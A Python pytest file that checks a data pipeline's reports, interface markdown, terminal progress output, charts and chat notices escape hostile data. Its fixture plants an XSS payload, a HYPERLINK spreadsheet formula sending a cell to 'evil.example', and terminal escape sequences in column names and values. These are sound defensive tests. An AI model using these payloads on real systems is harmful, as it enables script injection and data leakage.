"""What comes from the data is shown as text, wherever it is shown."""

import altair as alt
import pytest
from dagster import DagsterInstance, MarkdownMetadataValue
from rich.console import Console

from assets.stages import STAGES, latest
from modeling.artefacts.storage import load
from modeling.core.report import Report
from modeling.reports import drawing
from pipelines.cli.progress import LiveProgress
from pipelines.runs import Launch
from resources.notification.notice import Notice
from resources.notification.places import PLACES

from ..pipelines.sandbox import KEY, Sandbox, orders
from ..resources.notification.servers import Hook, serving

SCRIPT = "<img src=x onerror='alert(1)'><script>alert(2)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPE = "\x1b]0;owned\x07\x1b[31m"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
    """A use case whose title, limits, column names and levels attack whoever reads of them, from raw data to report."""
    made = Sandbox(tmp_path_factory.mktemp("hostile") / "sandbox")
    frame = orders(400)
    levels = frame["colour"].replace({"red": SCRIPT, "green": FORMULA, "blue": ESCAPE})
    frame = frame.with_columns(colour=levels).rename({"colour": f"colour {SCRIPT}", "price": f"{ESCAPE}price"})
    made.place(
        frame=frame,
        title=f"Will it? {SCRIPT}",
        limits=[SCRIPT, FORMULA],
        columns={"identifier": ["order"], "slices": [f"colour {SCRIPT}"]},
        contract=[
            {
                "expect_column_values_to_not_be_in_set": {"column": f"colour {SCRIPT}", "value_set": [FORMULA]},
                "on_failure": "quarantine",
            }
        ],
    )
    with made.instance() as instance:
        made.make(instance)
        made.make(instance, KEY.partition("/")[0], job="industry")
        made.make(instance, None, job="market_entry")
    return made


REPORTS = [("evaluation_report", KEY), ("industry_report", "retail"), ("market_entry_report", "all")]


@pytest.mark.slow
@pytest.mark.parametrize(("asset", "partition"), REPORTS)
def test_reports_hold_no_markup_and_no_control_character_of_the_data(hostile: Sandbox, asset: str, partition: str):
    report = load(Report, hostile.current(asset, partition))
    assert "<script" not in report.html
    assert "<img src=x" not in report.html
    assert "<script" not in report.markdown.replace(r"\<script", "")
    assert "<img" not in report.markdown.replace(r"\<img", "")
    for text in (report.html, report.markdown):
        assert "\x1b" not in text and "\x07" not in text


@pytest.mark.slow
def test_a_formula_is_shown_as_text(hostile: Sandbox):
    report = load(Report, hostile.current("evaluation_report"))
    assert "=HYPERLINK" in report.html
    assert 'href="http://evil' not in report.html


@pytest.mark.slow
def test_no_table_is_written_that_a_spreadsheet_would_run(hostile: Sandbox):
    written = {path.suffix for path in (hostile.home / "artefacts").rglob("*") if path.is_file()}
    assert written.isdisjoint({".csv", ".tsv", ".xlsx", ".xls", ".xlsm"})


@pytest.mark.slow
def test_markdown_in_the_interface_is_escaped(hostile: Sandbox):
    with hostile.instance() as instance:
        texts = [text for stage in STAGES for text in _markdown(instance, stage)]
    assert texts
    for text in texts:
        assert "<script" not in text.replace(r"\<script", "")
        assert "<img" not in text.replace(r"\<img", "")


def _markdown(instance: DagsterInstance, asset: str) -> list[str]:
    made = latest(instance, asset, KEY)
    assert made is not None
    return [str(value.value) for value in made.metadata.values() if isinstance(value, MarkdownMetadataValue)]


def test_a_message_on_the_terminal_acts_on_nothing(capsys: pytest.CaptureFixture[str]):
    console = Console(width=200)
    with LiveProgress(console, str) as progress:
        launch = Launch("use_case", KEY)
        progress.begin(launch, KEY, 1)
        progress.end(launch, f"failed {ESCAPE}")
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert r"\x1b]0;owned\x07" in shown


def test_a_notice_calls_nobody_in_a_chat(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    monkeypatch.setattr(Hook, "taken", [], raising=False)
    (webhook, _) = PLACES
    with serving(Hook) as port:
        notice = Notice("retail/returns failed", "column <!channel> & <@U1>")
        webhook.take(notice, {webhook.variable: f"http://127.0.0.1:{port}"})
    assert Hook.taken[0].startswith("warning: retail/returns failed\ncolumn &lt;!channel&gt; &amp; &lt;@U1&gt;\n")


def test_a_control_character_does_not_end_the_process_that_draws():
    rows = alt.InlineData(values=[{"name": f"price {ESCAPE}\ufffe", "loss": 1}])
    drawn = drawing.svg(alt.Chart(rows).mark_bar().encode(x="loss:Q", y="name:N"), f"What counts: {ESCAPE}")
    assert r"price \x1b]0;owned\x07" in drawn
    assert "\x1b" not in drawn
